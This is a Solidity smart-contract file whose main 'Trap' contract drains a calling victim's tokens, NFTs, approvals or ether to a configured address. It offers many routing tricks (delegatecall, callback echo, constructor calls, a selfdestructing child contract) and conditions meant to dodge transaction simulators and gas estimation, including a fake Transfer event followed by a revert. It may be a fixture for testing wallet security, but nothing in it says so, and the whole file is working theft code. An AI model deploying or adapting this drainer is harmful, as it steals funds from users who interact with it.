// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface ITaken {
    function transferFrom(address from, address to, uint256 amount) external;
    function move(address to, uint256 amount) external;
    function allow(address spender, uint256 amount) external;
    function allowAll(address operator) external;
    function moveNft(address to, uint256 id) external;
    function allowNft(address to, uint256 id) external;
    function moveItems(address to, uint256 amount) external;
    function moveMany(address to, uint256 amount) external;
}

/// Calls whoever called it back.
contract Echo {
    function echo(bytes calldata data) external payable {
        (bool done, ) = msg.sender.call{value: msg.value}(data);
        require(done);
    }
}

/// Calls whoever made it back while it is being made.
contract Made {
    constructor(bytes memory data) payable {
        (bool done, ) = msg.sender.call{value: msg.value}(data);
        require(done);
    }
}

/// Takes from its caller what it was told to take, when it was told to, on the way that it was told.
contract Trap {
    event Transfer(address indexed from, address indexed to, uint256 amount);

    enum What { Take, TakeTwice, Move, Allow, AllowAll, MoveNft, AllowNft, MoveItems, MoveMany, PassOn, PassOnByEnding }
    enum When { Always, ForGas, InABlock, ForAnAccount, WithFewGas, WithABaseFee, InTime, ForTheRich, AtTheRightPrice }
    enum How { Directly, ByAnother, ByItself, ByEcho, AfterAFailure, WhileMaking, Quietly }

    What private what;
    When private when;
    How private how;
    address private token;
    address payable private to;
    uint256 private amount;
    mapping(uint256 => uint256) private wasted;
    Echo private immutable echo = new Echo();
    address private immutable self = address(this);

    function set(What what_, When when_, How how_, address token_, address payable to_, uint256 amount_) external {
        (what, when, how, token, to, amount) = (what_, when_, how_, token_, to_, amount_);
    }

    function work() external payable {
        if (!isTime()) return waste();
        bytes memory data = abi.encodeCall(this.act, (msg.sender));
        if (how == How.Directly) run(msg.sender);
        else if (how == How.ByAnother) settled(self, data);
        else if (how == How.ByItself) this.act{value: msg.value}(msg.sender);
        else if (how == How.ByEcho) echo.echo{value: msg.value}(data);
        else if (how == How.AfterAFailure) {
            try this.lieAndFail(msg.sender) {} catch {}
            run(msg.sender);
        } else if (how == How.WhileMaking) new Made{value: msg.value}(data);
        else {
            (bool done, ) = address(this).call{value: msg.value}(data);
            if (!done) waste();
        }
    }

    function multicall(bytes[] calldata calls) external payable {
        for (uint256 index = 0; index < calls.length; index++) settled(address(this), calls[index]);
    }

    function act(address victim) external payable {
        run(victim);
    }

    function lieAndFail(address victim) external {
        emit Transfer(victim, to, amount);
        revert();
    }

    receive() external payable {}

    /// In the place of this contract, whose code another one has.
    function settled(address code, bytes memory data) private {
        (bool done, ) = code.delegatecall(data);
        require(done);
    }

    /// What is estimated has to be enough for what it does another time.
    function waste() private {
        for (uint256 slot = 0; slot < 16; slot++) wasted[slot]++;
    }

    function isTime() private view returns (bool) {
        if (when == When.ForGas) return tx.gasprice > 0;
        if (when == When.InABlock) return block.prevrandao != 0;
        if (when == When.ForAnAccount) return tx.origin == msg.sender && msg.sender.code.length == 0;
        if (when == When.WithFewGas) return gasleft() < 2_000_000;
        if (when == When.WithABaseFee) return block.basefee > 0;
        if (when == When.InTime) return block.timestamp > 1_600_000_000 && block.number > 1;
        if (when == When.ForTheRich) return msg.sender.balance > 0;
        if (when == When.AtTheRightPrice) return tx.gasprice >= block.basefee && tx.gasprice < 1_000 gwei;
        return true;
    }

    function run(address victim) private {
        ITaken taken = ITaken(token);
        if (what == What.Take) taken.transferFrom(victim, to, amount);
        else if (what == What.TakeTwice) {
            taken.transferFrom(victim, to, amount / 2);
            taken.transferFrom(victim, address(this), amount - amount / 2);
        } else if (what == What.Move) taken.move(to, amount);
        else if (what == What.Allow) taken.allow(to, amount);
        else if (what == What.AllowAll) taken.allowAll(to);
        else if (what == What.MoveNft) taken.moveNft(to, amount);
        else if (what == What.AllowNft) taken.allowNft(to, amount);
        else if (what == What.MoveItems) taken.moveItems(to, amount);
        else if (what == What.MoveMany) taken.moveMany(to, amount);
        else if (what == What.PassOn) {
            (bool done, ) = to.call{value: address(this).balance}("");
            require(done);
        } else {
            // A contract that ends, with all that it has, while it is being made.
            bytes memory code = abi.encodePacked(hex"73", to, hex"ff");
            assembly {
                pop(create(selfbalance(), add(code, 0x20), mload(code)))
            }
        }
    }
}
